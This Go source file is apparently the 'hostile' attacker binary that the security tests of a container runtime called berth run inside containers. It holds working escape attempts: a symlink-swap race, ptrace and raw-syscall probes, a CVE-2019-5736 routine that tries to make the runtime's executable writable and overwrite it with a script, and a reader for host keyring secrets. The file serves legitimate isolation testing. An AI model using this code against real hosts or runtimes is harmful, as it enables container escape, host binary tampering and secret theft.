// hostile is the attacker that berth's security tests run inside a
// container, for the attacks busybox cannot make:
//
//	hostile exchange A B   swap the names A and B with renameat2
//	                       RENAME_EXCHANGE, as fast as it can, until killed
//	hostile ptrace PID     try to attach to PID; prints "ptrace PID: attached"
//	                       or "ptrace PID: <error>"
//	hostile syscall NR...  make raw syscall NR with zero arguments; prints
//	                       "syscall NR: ERRNO-NAME" ("ok" when it succeeds)
//	hostile unseal HOLD    CVE-2019-5736 on Linux 6.x: wait for a berth run
//	                       in a container by an image's `#!/proc/self/exe
//	                       --log=HOLD` (blocked opening the FIFO HOLD), hold
//	                       its executable, try to make it writable from a
//	                       user and mount namespace of its own, let berth
//	                       exit and write to it; prints each step's result
//	hostile with-key DESC CMD...  on the host: run CMD with a new session
//	                       keyring that holds a user key DESC
//	hostile read-key DESC  print the session keyring and the payload of the
//	                       user key DESC it can find from there
//
// It is static, so that it runs in a busybox root.
package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 3 {
		usage()
	}
	switch os.Args[1] {
	case "exchange":
		if len(os.Args) != 4 {
			usage()
		}
		exchange(os.Args[2], os.Args[3])
	case "ptrace":
		pid, err := strconv.Atoi(os.Args[2])
		if err != nil {
			usage()
		}
		// Seize, not attach: a tracee that is not stopped is let go
		// when this process exits.
		if err := unix.PtraceSeize(pid); err != nil {
			fmt.Printf("ptrace %d: %v\n", pid, err)
			return
		}
		fmt.Printf("ptrace %d: attached\n", pid)
	case "syscall":
		for _, arg := range os.Args[2:] {
			nr, err := strconv.Atoi(arg)
			if err != nil {
				usage()
			}
			result := "ok"
			if _, _, errno := unix.Syscall(uintptr(nr), 0, 0, 0); errno != 0 {
				result = unix.ErrnoName(errno)
			}
			fmt.Printf("syscall %d: %s\n", nr, result)
		}
	case "unseal":
		unseal(os.Args[2])
	case "with-key":
		if len(os.Args) < 4 {
			usage()
		}
		withKey(os.Args[2], os.Args[3:])
	case "read-key":
		readKey(os.Args[2])
	case "unseal-ns":
		unsealInNamespaces(os.Args[2:])
	default:
		usage()
	}
}

// exchange swaps a and b forever: a path that crosses a is a directory one
// moment and whatever b is (a symlink out of the root) the next.
func exchange(a, b string) {
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			fmt.Fprintf(os.Stderr, "hostile: exchange %s %s: %v\n", a, b, err)
			os.Exit(1)
		}
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: hostile exchange A B | hostile ptrace PID | hostile syscall NR... | hostile unseal HOLD | hostile with-key DESC CMD... | hostile read-key DESC")
	os.Exit(2)
}

// unseal is the attack of CVE-2019-5736 as a container makes it on a
// kernel where a process may change the attributes of a detached mount
// from a user namespace of its own.
func unseal(hold string) {
	pid, err := waitForArg("--log=" + hold)
	if err != nil {
		fmt.Println(err)
		return
	}
	exePath := fmt.Sprintf("/proc/%d/exe", pid)
	link, _ := os.Readlink(exePath)
	fmt.Printf("found berth: pid %d, exe %s\n", pid, link)
	exe, err := openPath(exePath)
	if err != nil {
		fmt.Printf("open %s: %v\n", exePath, err)
		return
	}
	targets, names := []*os.File{exe}, []string{"exe"}
	// The same file, should berth hold it open.
	fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	for _, fd := range fds {
		f, err := openPath(fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name()))
		if err == nil && sameFile(f, exe) {
			targets, names = append(targets, f), append(names, "fd "+fd.Name())
		}
	}

	// As the container's process is, then from namespaces of its own,
	// where it has every capability over its mount namespace.
	held := make([]int, len(targets))
	for i, f := range targets {
		held[i] = int(f.Fd())
	}
	makeWritable("", held, names)
	cmd := exec.Command("/proc/self/exe", append([]string{"unseal-ns"}, names...)...)
	cmd.Stdout, cmd.Stderr, cmd.ExtraFiles = os.Stdout, os.Stdout, targets
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNS}
	if err := cmd.Run(); err != nil {
		fmt.Printf("unshare user and mount namespaces: %v\n", err)
	}

	// Let berth go on (it fails and exits), then write once it is gone.
	// The FIFO stays open for reading until then, in case berth has not
	// reached its open yet.
	release, err := os.OpenFile(fmt.Sprintf("/proc/%d/root%s", pid, hold), os.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		fmt.Printf("release berth: %v\n", err)
	}
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
		if _, err := os.Stat(fmt.Sprintf("/proc/%d", pid)); err != nil {
			break
		}
	}
	if release != nil {
		release.Close()
	}
	for i, f := range targets {
		fmt.Printf("write %s: %s\n", names[i], writeWhenFree(f))
	}
	fmt.Println("done")
}

// unsealInNamespaces runs in new user and mount namespaces, with the
// files it tries to make writable at fds 3 and up.
func unsealInNamespaces(names []string) {
	fmt.Println("unshare user and mount namespaces: ok")
	fds := make([]int, len(names))
	for i := range names {
		fds[i] = 3 + i
	}
	makeWritable("in namespaces of its own: ", fds, names)
}

// makeWritable tries every way to make the mount and the filesystem of
// each file writable: clear the mount's read-only attribute, remount it
// read-write, and reconfigure its filesystem read-write.
func makeWritable(prefix string, fds []int, names []string) {
	for i, fd := range fds {
		name := names[i]
		attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
		fmt.Printf("%smount_setattr %s: %s\n", prefix, name, result(unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &attr)))
		fmt.Printf("%sremount %s: %s\n", prefix, name, result(unix.Mount("", fmt.Sprintf("/proc/self/fd/%d", fd), "", unix.MS_REMOUNT|unix.MS_BIND, "")))
		fs, err := unix.Fspick(fd, "", unix.FSPICK_EMPTY_PATH|unix.FSPICK_CLOEXEC)
		if err == nil {
			err = unix.FsconfigSetFlag(fs, "rw")
			if err == nil {
				err = unix.FsconfigReconfigure(fs)
			}
			unix.Close(fs)
		}
		fmt.Printf("%sreconfigure %s read-write: %s\n", prefix, name, result(err))
	}
}

// waitForArg returns the pid of a process with arg among its arguments.
func waitForArg(arg string) (int, error) {
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			cmdline, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
			for _, a := range strings.Split(string(cmdline), "\x00") {
				if a == arg {
					return pid, nil
				}
			}
		}
	}
	return 0, fmt.Errorf("no process with argument %s", arg)
}

// writeWhenFree opens f for writing once no process runs it (ETXTBSY)
// and writes a script over its start.
func writeWhenFree(f *os.File) string {
	path := fmt.Sprintf("/proc/self/fd/%d", f.Fd())
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(time.Millisecond) {
		w, err := os.OpenFile(path, os.O_WRONLY, 0)
		if errors.Is(err, unix.ETXTBSY) && time.Now().Before(deadline) {
			continue
		}
		if err != nil {
			return "open: " + result(err)
		}
		_, err = w.WriteAt([]byte("#!/bin/sh\necho pwned\n"), 0)
		w.Close()
		return result(err)
	}
}

func openPath(path string) (*os.File, error) {
	fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	return os.NewFile(uintptr(fd), path), nil
}

func sameFile(a, b *os.File) bool {
	var sa, sb unix.Stat_t
	return unix.Fstat(int(a.Fd()), &sa) == nil && unix.Fstat(int(b.Fd()), &sb) == nil &&
		sa.Dev == sb.Dev && sa.Ino == sb.Ino
}

func result(err error) string {
	var errno unix.Errno
	switch {
	case err == nil:
		return "ok"
	case errors.As(err, &errno):
		return unix.ErrnoName(errno)
	default:
		return err.Error()
	}
}

// withKey execs cmd with a session keyring of its own that holds a user
// key desc, as a host process that has secrets in its keyring runs berth.
func withKey(desc string, cmd []string) {
	// Keyrings belong to a thread's credentials, and exec keeps this
	// thread's.
	runtime.LockOSThread()
	if _, err := unix.KeyctlJoinSessionKeyring("host-" + desc); err != nil {
		fmt.Fprintf(os.Stderr, "hostile: join a session keyring: %v\n", err)
		os.Exit(1)
	}
	if _, err := unix.AddKey("user", desc, []byte("host secret"), unix.KEY_SPEC_SESSION_KEYRING); err != nil {
		fmt.Fprintf(os.Stderr, "hostile: add key %s: %v\n", desc, err)
		os.Exit(1)
	}
	path, err := exec.LookPath(cmd[0])
	if err == nil {
		err = unix.Exec(path, cmd, os.Environ())
	}
	fmt.Fprintf(os.Stderr, "hostile: exec %s: %v\n", cmd[0], err)
	os.Exit(1)
}

// readKey prints the process's session keyring and what it can read of
// the user key desc through it.
func readKey(desc string) {
	ring, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, unix.KEY_SPEC_SESSION_KEYRING)
	fmt.Printf("session keyring: %s\n", orErr(ring, err))
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", desc, 0)
	if err != nil {
		fmt.Printf("key %s: %s\n", desc, result(err))
		return
	}
	buf := make([]byte, 256)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
	if err != nil {
		fmt.Printf("key %s: read: %s\n", desc, result(err))
		return
	}
	fmt.Printf("key %s: %q\n", desc, buf[:n])
}

func orErr(s string, err error) string {
	if err != nil {
		return result(err)
	}
	return s
}
